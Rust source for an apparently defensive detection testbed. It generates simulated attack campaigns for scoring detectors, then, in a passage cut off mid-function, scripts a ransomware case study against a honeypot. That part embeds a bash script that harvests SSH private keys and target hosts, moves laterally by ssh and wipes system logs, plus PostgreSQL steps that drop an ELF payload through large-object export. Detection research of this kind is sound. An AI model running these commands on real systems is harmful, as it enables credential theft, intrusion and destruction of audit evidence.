/// Each template step gets a *rank*: the index of the contiguous run of
/// equal [`Phase`](alertlib::taxonomy::Phase) values it belongs to. A legal
/// mutation may drop steps or permute steps *within* a rank, but the rank
/// sequence of the surviving steps must stay non-decreasing, and no
/// non-critical step may follow a critical (damage) step.
#[derive(Debug, Clone, PartialEq)]
pub struct KillChain {
    kinds: Vec<AlertKind>,
    ranks: Vec<u32>,
}

impl KillChain {
    /// Derive the invariants from a template.
    pub fn of(template: &AttackTemplate) -> KillChain {
        let kinds: Vec<AlertKind> = template.steps.iter().map(|s| s.kind).collect();
        let mut ranks = Vec::with_capacity(kinds.len());
        let mut rank = 0u32;
        for (i, k) in kinds.iter().enumerate() {
            if i > 0 && k.phase() != kinds[i - 1].phase() {
                rank += 1;
            }
            ranks.push(rank);
        }
        KillChain { kinds, ranks }
    }

    /// Rank of template step `i`.
    pub fn rank(&self, step: usize) -> u32 {
        self.ranks[step]
    }

    /// Check an emitted sequence of template step indices against the
    /// invariants: ranks non-decreasing, and nothing after a damage step.
    /// Returns the first violating position, or `None` if legal.
    pub fn validate(&self, step_indices: &[usize]) -> Option<usize> {
        let mut prev_rank = 0u32;
        let mut damage_seen = false;
        for (pos, &i) in step_indices.iter().enumerate() {
            if damage_seen {
                return Some(pos);
            }
            let r = self.ranks[i];
            if r < prev_rank {
                return Some(pos);
            }
            prev_rank = r;
            if self.kinds[i].is_critical() {
                damage_seen = true;
            }
        }
        None
    }
}

/// Where a planned step came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum StepOrigin {
    /// Template step (index into the family template).
    Template { index: usize },
    /// Interleaved benign/noise cover activity.
    Cover,
    /// Decoy-session activity (no underlying attack).
    Decoy,
}

/// One planned step of a mutated session.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PlannedStep {
    /// Offset from the session start.
    pub offset: SimDuration,
    pub kind: AlertKind,
    /// Index into [`MutatedSession::entities`] (lateral hop).
    pub entity: usize,
    pub origin: StepOrigin,
}

/// A fully planned mutated session.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MutatedSession {
    pub id: usize,
    pub family: String,
    pub start: SimTime,
    pub decoy: bool,
    /// The attacker-controlled source addresses, in hop order.
    pub entities: Vec<Ipv4Addr>,
    /// Victim address carried on the emitted notices.
    pub victim: Ipv4Addr,
    /// Time-ordered steps (offsets non-decreasing).
    pub steps: Vec<PlannedStep>,
}

impl MutatedSession {
    /// Timestamp of the first damage (critical) template step, if any.
    pub fn damage_ts(&self) -> Option<SimTime> {
        self.steps
            .iter()
            .find(|s| matches!(s.origin, StepOrigin::Template { .. }) && s.kind.is_critical())
            .map(|s| self.start.saturating_add(s.offset))
    }

    /// Entity keys in hop order (matching `Entity::Address(ip).key()`).
    pub fn entity_keys(&self) -> Vec<String> {
        self.entities
            .iter()
            .map(|ip| format!("addr:{ip}"))
            .collect()
    }

    /// The emitted template step indices, in order (property-test hook for
    /// [`KillChain::validate`]).
    pub fn template_step_indices(&self) -> Vec<usize> {
        self.steps
            .iter()
            .filter_map(|s| match s.origin {
                StepOrigin::Template { index } => Some(index),
                _ => None,
            })
            .collect()
    }

    /// Render the session as time-ordered notice records.
    pub fn records(&self) -> Vec<LogRecord> {
        let mut out = Vec::with_capacity(self.steps.len());
        self.records_into(&mut out, &mut String::new());
        out
    }

    /// Append the session's notice records to `out`, reusing `scratch`
    /// for the formatted message — the campaign generator's scratch-buffer
    /// path (one `String` serves every session of a campaign).
    pub fn records_into(&self, out: &mut Vec<LogRecord>, scratch: &mut String) {
        self.records_into_scoped(&simnet::intern::SymScope::global(), out, scratch)
    }

    /// [`MutatedSession::records_into`] minting symbols into an explicit
    /// scope.
    pub fn records_into_scoped(
        &self,
        scope: &simnet::intern::SymScope,
        out: &mut Vec<LogRecord>,
        scratch: &mut String,
    ) {
        use std::fmt::Write as _;
        let family: Sym = scope.sym(self.family.as_str());
        out.reserve(self.steps.len());
        for s in &self.steps {
            let symbol = s.kind.symbol();
            scratch.clear();
            let _ = write!(scratch, "campaign session {} {}", self.id, symbol);
            out.push(LogRecord::Notice(NoticeRecord {
                ts: self.start.saturating_add(s.offset),
                note: NoticeKind::Custom(scope.sym(symbol)),
                msg: scope.sym(scratch.as_str()),
                src: self.entities[s.entity],
                dst: Some(self.victim),
                sub: family,
            }));
        }
    }
}

/// Benign-shaped kinds for cover traffic and decoys: admitted by the scan
/// filter (Info severity is never deduplicated) and observed by the
/// per-entity detectors, so they genuinely dilute the posterior.
const COVER_KINDS: &[AlertKind] = &[
    AlertKind::LoginSuccess,
    AlertKind::JobSubmit,
    AlertKind::FileTransfer,
    AlertKind::SoftwareInstall,
    AlertKind::LoginFailed,
    AlertKind::PortScan,
];

/// Decoy sessions replay benign workflows only.
const DECOY_KINDS: &[AlertKind] = &[
    AlertKind::LoginSuccess,
    AlertKind::JobSubmit,
    AlertKind::JobSubmit,
    AlertKind::FileTransfer,
    AlertKind::CompileSource,
    AlertKind::SoftwareInstall,
];

/// Mutate one template into a session plan. `entities` are the attacker
/// addresses available to the session (the first is always used; lateral
/// campaigns use more). Deterministic in `rng`.
pub fn mutate_template(
    id: usize,
    template: &AttackTemplate,
    cfg: &MutationConfig,
    start: SimTime,
    entities: Vec<Ipv4Addr>,
    victim: Ipv4Addr,
    rng: &mut SimRng,
) -> MutatedSession {
    assert!(!entities.is_empty(), "session needs at least one entity");
    assert!(
        cfg.dilation >= 1.0,
        "dilation must be >= 1.0 (low-and-slow)"
    );
    let chain = KillChain::of(template);

    // 1. Keep/drop pass. The first step is the session's observable entry
    //    point and is always kept; damage steps follow `force_damage`;
    //    everything else honours its template probability and then the
    //    mutation drop probability.
    let mut kept: Vec<usize> = Vec::with_capacity(template.steps.len());
    for (i, step) in template.steps.iter().enumerate() {
        let keep = if i == 0 {
            true
        } else if step.kind.is_critical() {
            cfg.force_damage || rng.chance(step.probability)
        } else {
            let realized = step.probability >= 1.0 || rng.chance(step.probability);
            realized && !rng.chance(cfg.drop_prob)
        };
        if keep {
            kept.push(i);
        }
    }
    // An attack that drops its whole middle is unobservable; keep the first
    // two non-critical template steps as a floor.
    let non_critical = template
        .steps
        .iter()
        .enumerate()
        .filter(|(_, s)| !s.kind.is_critical())
        .map(|(i, _)| i)
        .take(2);
    for i in non_critical {
        if !kept.contains(&i) {
            kept.push(i);
            kept.sort_unstable();
        }
    }
    // Damage stays terminal for *any* template (the built-in eight end on
    // their critical step, but callers may supply templates that don't):
    // truncate everything after the first kept critical step.
    if let Some(pos) = kept
        .iter()
        .position(|&i| template.steps[i].kind.is_critical())
    {
        kept.truncate(pos + 1);
    }

    // 2. Reorder pass: adjacent swaps within equal kill-chain rank (never
    //    across ranks, never involving a damage step), so the invariants
    //    hold by construction.
    for pos in 0..kept.len().saturating_sub(1) {
        let (a, b) = (kept[pos], kept[pos + 1]);
        if chain.rank(a) == chain.rank(b)
            && !template.steps[a].kind.is_critical()
            && !template.steps[b].kind.is_critical()
            && rng.chance(cfg.swap_prob)
        {
            kept.swap(pos, pos + 1);
        }
    }

    // 3. Timing: per-step delays from the template models, dilated.
    //    Saturating accumulation: extreme dilation × a heavy-tailed delay
    //    can reach the end of representable time, and must clamp there
    //    rather than wrap the session backwards.
    let mut steps: Vec<PlannedStep> = Vec::with_capacity(kept.len() + cfg.noise_steps);
    let mut t = SimDuration::ZERO;
    for &i in &kept {
        t = t.saturating_add(template.steps[i].delay.sample(rng).mul_f64(cfg.dilation));
        steps.push(PlannedStep {
            offset: t,
            kind: template.steps[i].kind,
            entity: 0,
            origin: StepOrigin::Template { index: i },
        });
    }
    let span = t;

    // 4. Lateral split: divide the attack steps into contiguous segments,
    //    one entity per segment (all alerts of one hop key to one entity,
    //    so detection must re-accumulate evidence after every pivot).
    let hops = if entities.len() >= 2 && rng.chance(cfg.lateral_prob) {
        2 + rng.index(entities.len().max(2) - 1)
    } else {
        1
    };
    let hops = hops.min(entities.len()).min(steps.len().max(1));
    if hops > 1 {
        let per = steps.len().div_ceil(hops);
        for (j, s) in steps.iter_mut().enumerate() {
            s.entity = (j / per).min(hops - 1);
        }
    }

    // 5. Cover interleave: benign/noise steps at uniform fractions of the
    //    session span, attributed to the hop active at that time.
    let cover_n = if cfg.noise_steps > 0 {
        rng.index(cfg.noise_steps + 1)
    } else {
        0
    };
    for _ in 0..cover_n {
        let frac = rng.f64();
        let offset = span.mul_f64(frac);
        let entity = steps
            .iter()
            .rev()
            .find(|s| s.offset <= offset && matches!(s.origin, StepOrigin::Template { .. }))
            .map(|s| s.entity)
            .unwrap_or(0);
        let kind = *rng.pick(COVER_KINDS);
        steps.push(PlannedStep {
            offset,
            kind,
            entity,
            origin: StepOrigin::Cover,
        });
    }
    steps.sort_by_key(|s| s.offset);

    MutatedSession {
        id,
        family: template.family.clone(),
        start,
        decoy: false,
        entities: entities.into_iter().take(hops.max(1)).collect(),
        victim,
        steps,
    }
}

/// Plan a decoy session: benign-shaped activity from a fresh entity.
pub fn decoy_session(
    id: usize,
    cfg: &MutationConfig,
    start: SimTime,
    entity: Ipv4Addr,
    victim: Ipv4Addr,
    rng: &mut SimRng,
) -> MutatedSession {
    let n = 3 + rng.index(DECOY_KINDS.len());
    let mut t = SimDuration::ZERO;
    let mut steps = Vec::with_capacity(n);
    for _ in 0..n {
        t = t.saturating_add(
            SimDuration::from_secs(30 + rng.range_u64(0, 3_600)).mul_f64(cfg.dilation),
        );
        steps.push(PlannedStep {
            offset: t,
            kind: *rng.pick(DECOY_KINDS),
            entity: 0,
            origin: StepOrigin::Decoy,
        });
    }
    MutatedSession {
        id,
        family: "decoy".to_string(),
        start,
        decoy: true,
        entities: vec![entity],
        victim,
        steps,
    }
}

/// Campaign shape: how many sessions, over which window, against which
/// family templates, mixed with how much background load.
#[derive(Debug, Clone)]
pub struct CampaignConfig {
    pub start: SimTime,
    /// Window session starts are spread over (sessions overlap freely).
    pub horizon: SimDuration,
    /// Total sessions (attack + decoy).
    pub sessions: usize,
    /// Family templates cycled round-robin (default: the standard eight).
    pub families: Vec<AttackTemplate>,
    pub mutation: MutationConfig,
    /// Optional `scenario::stream` background load interleaved into the
    /// campaign stream (scored as the false-positive denominator).
    pub background: Option<RecordStreamConfig>,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        CampaignConfig {
            start: SimTime::from_date(2024, 10, 1),
            horizon: SimDuration::from_days(7),
            sessions: 200,
            families: crate::library::standard_library(),
            mutation: MutationConfig::default(),
            background: None,
        }
    }
}

/// Ground truth for one campaign session.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionTruth {
    pub id: usize,
    pub family: String,
    pub decoy: bool,
    /// `Entity::key()` strings of every hop.
    pub entity_keys: Vec<String>,
    pub start: SimTime,
    /// First damage-step timestamp (the preemption deadline).
    pub damage_ts: Option<SimTime>,
    /// All attack (template) steps, time-ordered — the record-based
    /// lead-time ruler.
    pub steps: Vec<(SimTime, AlertKind)>,
    /// Inter-step gaps between consecutive attack steps, in seconds
    /// (`steps.len() - 1` entries; empty below two steps) — the realized
    /// tempo of the session, which the detection-vs-dilation curves plot
    /// the recovery against.
    #[serde(default)]
    pub step_gap_secs: Vec<f64>,
    /// Per-step hop index into `entity_keys` (parallel to `steps`): which
    /// lateral-split entity emitted each attack step. All zeros for
    /// unsplit sessions; the campaign-correlation evaluation uses this to
    /// attribute detections to hops.
    #[serde(default)]
    pub step_entities: Vec<usize>,
}

impl SessionTruth {
    /// Mean realized inter-step gap, seconds (0 below two steps).
    pub fn mean_step_gap_secs(&self) -> f64 {
        if self.step_gap_secs.is_empty() {
            return 0.0;
        }
        self.step_gap_secs.iter().sum::<f64>() / self.step_gap_secs.len() as f64
    }

    /// Largest realized inter-step gap, seconds (0 below two steps).
    pub fn max_step_gap_secs(&self) -> f64 {
        self.step_gap_secs.iter().copied().fold(0.0, f64::max)
    }
}

/// Ground truth for a whole campaign.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CampaignGroundTruth {
    pub sessions: Vec<SessionTruth>,
    /// Background records interleaved (the FP-rate denominator).
    pub background_records: u64,
    /// The timing-dilation factor the campaign was generated with
    /// (`MutationConfig::dilation`) — carried so an evaluation scored
    /// against this truth is a self-describing point on a
    /// detection-vs-dilation curve.
    #[serde(default = "default_dilation")]
    pub dilation: f64,
}

// Referenced by the `serde(default = ...)` attribute; the offline serde
// shim's derive does not expand it, hence the explicit allow.
#[allow(dead_code)]
fn default_dilation() -> f64 {
    1.0
}

impl Default for CampaignGroundTruth {
    fn default() -> Self {
        CampaignGroundTruth {
            sessions: Vec::new(),
            background_records: 0,
            dilation: 1.0,
        }
    }
}

impl CampaignGroundTruth {
    /// Entity keys belonging to real (non-decoy) attack sessions.
    pub fn attack_entity_keys(&self) -> std::collections::HashSet<&str> {
        self.sessions
            .iter()
            .filter(|s| !s.decoy)
            .flat_map(|s| s.entity_keys.iter().map(String::as_str))
            .collect()
    }

    /// Entity keys belonging to decoy sessions.
    pub fn decoy_entity_keys(&self) -> std::collections::HashSet<&str> {
        self.sessions
            .iter()
            .filter(|s| s.decoy)
            .flat_map(|s| s.entity_keys.iter().map(String::as_str))
            .collect()
    }
}

/// A generated campaign: one merged, time-ordered record stream plus the
/// ground truth to score any pipeline run against.
#[derive(Debug, Clone, PartialEq)]
pub struct Campaign {
    pub records: Vec<LogRecord>,
    pub truth: CampaignGroundTruth,
}

/// Campaign entity addresses come from 198.18.0.0/15 (the benchmarking
/// range): disjoint from both the scanner pools and the internal networks
/// of `scenario::stream`, so session entities never collide with
/// background entities.
pub(crate) fn campaign_entity_addr(n: u32) -> Ipv4Addr {
    let base = u32::from_be_bytes([198, 18, 0, 0]);
    Ipv4Addr::from(base + 1 + (n % ((1 << 17) - 2)))
}

/// Generate a campaign: `cfg.sessions` mutated/decoy sessions multiplexed
/// with the optional background stream into one time-ordered record
/// stream. Deterministic in `rng` (fork-isolated per subsystem, so session
/// structure is independent of background volume).
pub fn generate_campaign(cfg: &CampaignConfig, rng: &mut SimRng) -> Campaign {
    assert!(!cfg.families.is_empty(), "campaign needs templates");
    let mut session_rng = rng.fork(0x5E55);
    let mut background_rng = rng.fork(0xBAC6);

    let mut records: Vec<LogRecord> = Vec::new();
    let mut truth = CampaignGroundTruth {
        dilation: cfg.mutation.dilation,
        ..CampaignGroundTruth::default()
    };
    let mut entity_counter = 0u32;
    let mut scratch = String::new();
    let horizon_ns = cfg.horizon.as_nanos().max(1);

    for id in 0..cfg.sessions {
        let start = cfg.start + SimDuration::from_nanos(session_rng.range_u64(0, horizon_ns));
        let victim = simnet::addr::ncsa_production().nth(session_rng.range_u64(256, 60_000));
        let session = if session_rng.chance(cfg.mutation.decoy_prob) {
            let entity = campaign_entity_addr(entity_counter);
            entity_counter += 1;
            decoy_session(id, &cfg.mutation, start, entity, victim, &mut session_rng)
        } else {
            let template = &cfg.families[id % cfg.families.len()];
            let entities: Vec<Ipv4Addr> = (0..cfg.mutation.max_lateral_entities.max(1))
                .map(|j| campaign_entity_addr(entity_counter + j as u32))
                .collect();
            entity_counter += entities.len() as u32;
            mutate_template(
                id,
                template,
                &cfg.mutation,
                start,
                entities,
                victim,
                &mut session_rng,
            )
        };
        session.records_into(&mut records, &mut scratch);
        let steps: Vec<(SimTime, AlertKind)> = session
            .steps
            .iter()
            .filter(|s| matches!(s.origin, StepOrigin::Template { .. }))
            .map(|s| (session.start.saturating_add(s.offset), s.kind))
            .collect();
        let step_gap_secs: Vec<f64> = steps
            .windows(2)
            .map(|w| w[1].0.saturating_since(w[0].0).as_secs_f64())
            .collect();
        let step_entities: Vec<usize> = session
            .steps
            .iter()
            .filter(|s| matches!(s.origin, StepOrigin::Template { .. }))
            .map(|s| s.entity)
            .collect();
        truth.sessions.push(SessionTruth {
            id: session.id,
            family: session.family.clone(),
            decoy: session.decoy,
            entity_keys: session.entity_keys(),
            start: session.start,
            damage_ts: session.damage_ts(),
            steps,
            step_gap_secs,
            step_entities,
        });
    }

    if let Some(bcfg) = &cfg.background {
        let background = record_stream(bcfg, &mut background_rng);
        truth.background_records = background.len() as u64;
        records.extend(background);
    }
    records.sort_by_key(|r| r.ts());
    Campaign { records, truth }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::library::standard_library;

    fn small_cfg(sessions: usize) -> CampaignConfig {
        CampaignConfig {
            sessions,
            horizon: SimDuration::from_hours(12),
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn kill_chain_ranks_follow_phase_runs() {
        let lib = standard_library();
        let chain = KillChain::of(&lib[0]);
        // Ranks start at 0 and rise by at most 1 per step.
        assert_eq!(chain.rank(0), 0);
        for i in 1..lib[0].steps.len() {
            assert!(chain.rank(i) >= chain.rank(i - 1));
            assert!(chain.rank(i) - chain.rank(i - 1) <= 1);
        }
        // The identity order is always legal.
        let all: Vec<usize> = (0..lib[0].steps.len()).collect();
        assert_eq!(chain.validate(&all), None);
        // A backwards rank jump is flagged.
        let last = lib[0].steps.len() - 1;
        assert!(chain.validate(&[last, 0]).is_some());
    }

    #[test]
    fn mutated_sessions_respect_kill_chain() {
        let lib = standard_library();
        let cfg = MutationConfig::default();
        let mut rng = SimRng::seed(11);
        for trial in 0..200 {
            let template = &lib[trial % lib.len()];
            let chain = KillChain::of(template);
            let s = mutate_template(
                trial,
                template,
                &cfg,
                SimTime::from_date(2024, 10, 1),
                vec![campaign_entity_addr(trial as u32 * 4)],
                "141.142.2.9".parse().unwrap(),
                &mut rng,
            );
            let indices = s.template_step_indices();
            assert!(indices.len() >= 2, "floor of two attack steps");
            assert_eq!(
                chain.validate(&indices),
                None,
                "{}: illegal order {indices:?}",
                template.family
            );
            for w in s.steps.windows(2) {
                assert!(w[1].offset >= w[0].offset, "time-ordered");
            }
        }
    }

    #[test]
    fn force_damage_gives_every_attack_session_a_deadline() {
        let cfg = small_cfg(60);
        let campaign = generate_campaign(&cfg, &mut SimRng::seed(3));
        for s in campaign.truth.sessions.iter().filter(|s| !s.decoy) {
            assert!(
                s.damage_ts.is_some(),
                "session {} ({}) lacks a damage step",
                s.id,
                s.family
            );
            assert!(s.damage_ts.unwrap() >= s.start);
        }
        assert!(
            campaign.truth.sessions.iter().any(|s| s.decoy),
            "decoys present at default decoy_prob"
        );
    }

    #[test]
    fn campaign_is_deterministic_and_ordered() {
        let mut cfg = small_cfg(40);
        cfg.background = Some(RecordStreamConfig {
            scan_records: 500,
            benign_flows: 200,
            exec_records: 300,
            users: 40,
            ..RecordStreamConfig::default()
        });
        let a = generate_campaign(&cfg, &mut SimRng::seed(9));
        let b = generate_campaign(&cfg, &mut SimRng::seed(9));
        assert_eq!(a, b, "same seed, byte-identical campaign");
        assert_eq!(a.truth.background_records, 1_000);
        assert!(a.records.windows(2).all(|w| w[0].ts() <= w[1].ts()));
        assert!(a.records.len() > 1_000);
    }

    #[test]
    fn lateral_sessions_split_across_entities() {
        let mut cfg = MutationConfig {
            lateral_prob: 1.0,
            decoy_prob: 0.0,
            ..MutationConfig::default()
        };
        cfg.max_lateral_entities = 3;
        let lib = standard_library();
        let mut rng = SimRng::seed(21);
        let mut saw_multi = false;
        for trial in 0..20 {
            let s = mutate_template(
                trial,
                &lib[1],
                &cfg,
                SimTime::from_date(2024, 10, 1),
                (0..3)
                    .map(|j| campaign_entity_addr(trial as u32 * 8 + j))
                    .collect(),
                "141.142.2.9".parse().unwrap(),
                &mut rng,
            );
            if s.entities.len() > 1 {
                saw_multi = true;
                // Hop index is non-decreasing over the attack steps
                // (contiguous segments).
                let hops: Vec<usize> = s
                    .steps
                    .iter()
                    .filter(|st| matches!(st.origin, StepOrigin::Template { .. }))
                    .map(|st| st.entity)
                    .collect();
                assert!(hops.windows(2).all(|w| w[1] >= w[0]));
                assert!(*hops.last().unwrap() < s.entities.len());
            }
        }
        assert!(
            saw_multi,
            "lateral_prob=1.0 must produce multi-hop sessions"
        );
    }

    #[test]
    fn damage_stays_terminal_for_mid_template_criticals() {
        use crate::template::{Delay, Step};
        // A pathological caller-supplied template: the critical step sits
        // mid-template with attack steps after it. The mutation engine
        // must still emit a kill-chain-legal session (damage terminal).
        let template = AttackTemplate::new(
            "pathological",
            vec![
                Step::always(AlertKind::PortScan, Delay::automated()),
                Step::always(AlertKind::DownloadSensitive, Delay::manual()),
                Step::always(AlertKind::PrivilegeEscalation, Delay::manual()), // critical
                Step::always(AlertKind::LogWipe, Delay::manual()),
                Step::always(AlertKind::HistoryCleared, Delay::manual()),
            ],
        );
        let chain = KillChain::of(&template);
        let mut rng = SimRng::seed(31);
        for trial in 0..100 {
            let s = mutate_template(
                trial,
                &template,
                &MutationConfig::default(),
                SimTime::from_date(2024, 10, 1),
                vec![campaign_entity_addr(trial as u32)],
                "141.142.2.9".parse().unwrap(),
                &mut rng,
            );
            let indices = s.template_step_indices();
            assert_eq!(chain.validate(&indices), None, "illegal order {indices:?}");
            assert_eq!(
                s.damage_ts().map(|t| t >= s.start),
                Some(true),
                "forced damage present"
            );
            let last = *indices.last().unwrap();
            assert!(
                template.steps[last].kind.is_critical(),
                "damage must be the terminal template step: {indices:?}"
            );
        }
    }

    #[test]
    fn dilation_stretches_without_reordering() {
        let lib = standard_library();
        let slow_cfg = MutationConfig {
            dilation: 24.0,
            ..MutationConfig::default()
        };
        let fast = mutate_template(
            0,
            &lib[0],
            &MutationConfig::default(),
            SimTime::from_date(2024, 10, 1),
            vec![campaign_entity_addr(0)],
            "141.142.2.9".parse().unwrap(),
            &mut SimRng::seed(5),
        );
        let slow = mutate_template(
            0,
            &lib[0],
            &slow_cfg,
            SimTime::from_date(2024, 10, 1),
            vec![campaign_entity_addr(0)],
            "141.142.2.9".parse().unwrap(),
            &mut SimRng::seed(5),
        );
        // Same structural choices (same rng stream), stretched timing.
        assert_eq!(fast.template_step_indices(), slow.template_step_indices());
        let span = |s: &MutatedSession| s.steps.last().unwrap().offset.as_secs_f64();
        assert!(span(&slow) > span(&fast) * 20.0, "low-and-slow stretches");
        assert!(slow.steps.windows(2).all(|w| w[1].offset >= w[0].offset));
    }

    #[test]
    fn dilation_composes_with_clock_skew_faults() {
        use crate::faults::{apply_fault_plan, ClockSkewConfig, FaultPlan};
        // A low-and-slow campaign run through the clock-fault injector:
        // the faulted stream keeps every record, moves each timestamp by
        // at most max_skew + jitter, never underflows the epoch, and is
        // reproducible draw for draw.
        let mut cfg = small_cfg(12);
        cfg.mutation.dilation = 16.0;
        let campaign = generate_campaign(&cfg, &mut SimRng::seed(27));
        assert_eq!(campaign.truth.dilation, 16.0);
        let max_skew = SimDuration::from_mins(20);
        let jitter = SimDuration::from_secs(90);
        let plan = FaultPlan::clean(41).with_clock(ClockSkewConfig { max_skew, jitter });
        let (out, stats) = apply_fault_plan(&plan, &campaign.records);
        assert_eq!(
            out.len(),
            campaign.records.len(),
            "clock faults lose nothing"
        );
        assert!(stats.skewed > 0 && stats.skewed as usize <= out.len());
        let bound = (max_skew.saturating_add(jitter)).as_nanos() as i128;
        for (orig, faulted) in campaign.records.iter().zip(&out) {
            let delta = faulted.ts().as_nanos() as i128 - orig.ts().as_nanos() as i128;
            assert!(delta.abs() <= bound, "skew bounded: {delta}");
            assert!(faulted.ts() >= SimTime::EPOCH);
        }
        let (again, _) = apply_fault_plan(&plan, &campaign.records);
        assert_eq!(out, again, "dilated + skewed stream replays identically");
    }

    #[test]
    fn session_records_symbolize_back_to_planned_kinds() {
        let lib = standard_library();
        let s = mutate_template(
            7,
            &lib[2],
            &MutationConfig::default(),
            SimTime::from_date(2024, 10, 1),
            vec![campaign_entity_addr(40)],
            "141.142.2.9".parse().unwrap(),
            &mut SimRng::seed(13),
        );
        let mut sym = alertlib::Symbolizer::with_defaults();
        let mut alerts = Vec::new();
        for r in s.records() {
            sym.symbolize_into(&r, &mut alerts);
        }
        assert_eq!(alerts.len(), s.steps.len(), "one alert per planned step");
        for (a, st) in alerts.iter().zip(&s.steps) {
            assert_eq!(a.kind, st.kind);
            assert_eq!(a.entity.key(), format!("addr:{}", s.entities[st.entity]));
        }
    }
}
