//! The §V ransomware case study, scripted.
//!
//! Reproduces the attack the testbed attracted and preempted:
//!
//! - October 2024: repeated probing of PostgreSQL port 5432;
//! - **Oct 30**: entry through an open 5432 with privileged access;
//!   step 1 `SHOW server_version_num`; step 2 ELF payload (`7F454C46…`)
//!   into a `largeobject`; step 3 `/tmp/kp` dropped via `lo_export`;
//! - recursive lateral movement with stolen SSH keys (Fig. 5's script);
//! - C2 communication (the event the model detected), log wiping;
//! - **Nov 11** (+12 days): the same family hits a production host —
//!   the incident-report snippet's `sys.x86_64` / `ldr.sh` downloads at
//!   03:44 and SSH scanning an hour later.

use std::net::Ipv4Addr;

use honeynet::deploy::HoneynetDeployment;
use serde::{Deserialize, Serialize};
use simnet::action::{
    Action, AuthMethod, ExecAction, FileOp, FileOpAction, HttpAction, SshAuthAction,
};
use simnet::flow::{ConnState, Flow, FlowId, Service};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::{HostId, Topology};

/// Fig. 5's lateral-movement payload, verbatim in structure: enumerate
/// keys, hosts and users, then loop ssh in batch mode.
pub const FIG5_SCRIPT: &str = r#"KEYS=$(find ~/ /root /home -maxdepth 2 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName)
HOSTS2=$(cat ~/.bash_history /home/*/.bash_history /root/.bash_history | grep -E "(ssh|scp)")
HOSTS3=$(cat ~/*/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts)
for user in $users; do
  for host in $hosts; do
    for key in $keys; do
      chmod +r $key; chmod 400 $key
      ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 $user@$host -i $key
    done
  done
done
echo 0>/var/spool/mail/root
echo 0>/var/log/wtmp
echo 0>/var/log/secure
echo 0>/var/log/cron"#;

/// Scenario parameters.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RansomwareConfig {
    /// Attacker source (the paper's initial connection came from
    /// 111.200.z.t).
    pub attacker: Ipv4Addr,
    /// C2 server (the paper's payload host 194.145.x.y).
    pub c2_server: Ipv4Addr,
    /// Day of first probing.
    pub probe_start: SimTime,
    /// Number of probe days before entry.
    pub probe_days: u64,
    /// Entry instant (Oct 30, 03:44 per the incident snippet's timing).
    pub entry: SimTime,
    /// Lead before the production wave (the paper's twelve days).
    pub production_delay: SimDuration,
    /// Lateral-movement ssh targets tried from the compromised instance.
    pub lateral_targets: usize,
}

impl Default for RansomwareConfig {
    fn default() -> Self {
        RansomwareConfig {
            attacker: "111.200.45.67".parse().expect("static"),
            c2_server: "194.145.22.33".parse().expect("static"),
            probe_start: SimTime::from_date(2024, 10, 1),
            probe_days: 29,
            entry: SimTime::from_datetime(2024, 10, 30, 3, 44, 0),
            production_delay: SimDuration::from_days(12),
            lateral_targets: 6,
        }
    }
}

/// Output of the scripted scenario: a time-ordered action list plus ground
/// truth markers for evaluation.
#[derive(Debug)]
pub struct RansomwareScenario {
    pub actions: Vec<(SimTime, Action)>,
    /// When the honeypot-side C2 communication happens (the detection
    /// opportunity).
    pub c2_time: SimTime,
    /// When the production wave begins (damage to beat by ≥12 days).
    pub production_time: SimTime,
    /// The production host attacked in the second wave.
    pub production_victim: Ipv4Addr,
}

/// Build the full scripted scenario against a deployed honeynet.
///
/// The honeypot session drives the real service emulators (so replies like
/// `server_version_num` are authentic); everything else is scripted action
/// generation.
pub fn build_scenario(
    topo: &Topology,
    deployment: &mut HoneynetDeployment,
    cfg: &RansomwareConfig,
) -> RansomwareScenario {
    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    let entry_addr = deployment.entry_addrs()[0];
    let mut flow_seq = 0xAA00u64;
    let mut fresh_flow = |t: SimTime, src: Ipv4Addr, dst: Ipv4Addr, port: u16, ok: bool| {
        flow_seq += 1;
        if ok {
            Flow::established(
                FlowId(flow_seq),
                t,
                SimDuration::from_secs(30),
                src,
                41_000 + (flow_seq % 10_000) as u16,
                dst,
                port,
                2_048,
                1_024,
            )
        } else {
            Flow::probe(FlowId(flow_seq), t, src, dst, port)
        }
    };

    // --- October: repeated probing of 5432 across the honeynet /24. ---
    for day in 0..cfg.probe_days {
        let base = cfg.probe_start + SimDuration::from_days(day);
        for (i, &entry) in deployment.entry_addrs().iter().enumerate() {
            let t = base + SimDuration::from_mins(7 * (i as u64 + 1));
            actions.push((
                t,
                Action::Flow(fresh_flow(t, cfg.attacker, entry, 5432, false)),
            ));
        }
    }

    // --- Oct 30: entry with privileged access (default credentials). ---
    let mut t = cfg.entry;
    let (ok, auth_actions) =
        deployment.db_connect(t, cfg.attacker, entry_addr, "postgres", "postgres");
    assert!(
        ok,
        "honeypot must accept the advertised default credentials"
    );
    actions.extend(auth_actions);

    // Step 1: reconnaissance.
    t += SimDuration::from_secs(41);
    let (_, acts) = deployment.db_command(t, cfg.attacker, entry_addr, "SHOW server_version_num");
    actions.extend(acts);

    // Step 2: ELF payload into a largeobject (hex 7F454C46…).
    t += SimDuration::from_mins(3);
    let payload_stmt = format!(
        "SELECT lo_from_bytea(0, decode('7f454c460201010000{}','hex'))",
        "90".repeat(24_000)
    );
    let (_, acts) = deployment.db_command(t, cfg.attacker, entry_addr, &payload_stmt);
    actions.extend(acts);

    // Step 3: drop /tmp/kp via lo_export.
    t += SimDuration::from_mins(2);
    let (_, acts) = deployment.db_command(
        t,
        cfg.attacker,
        entry_addr,
        "SELECT lo_export(16384, '/tmp/kp')",
    );
    actions.extend(acts);

    // --- Lateral movement: the Fig. 5 script on the compromised host. ---
    let container_host = topo
        .host_by_addr(entry_addr)
        .map(|_| ())
        .and_then(|_| {
            // The container host is registered right after its entry point.
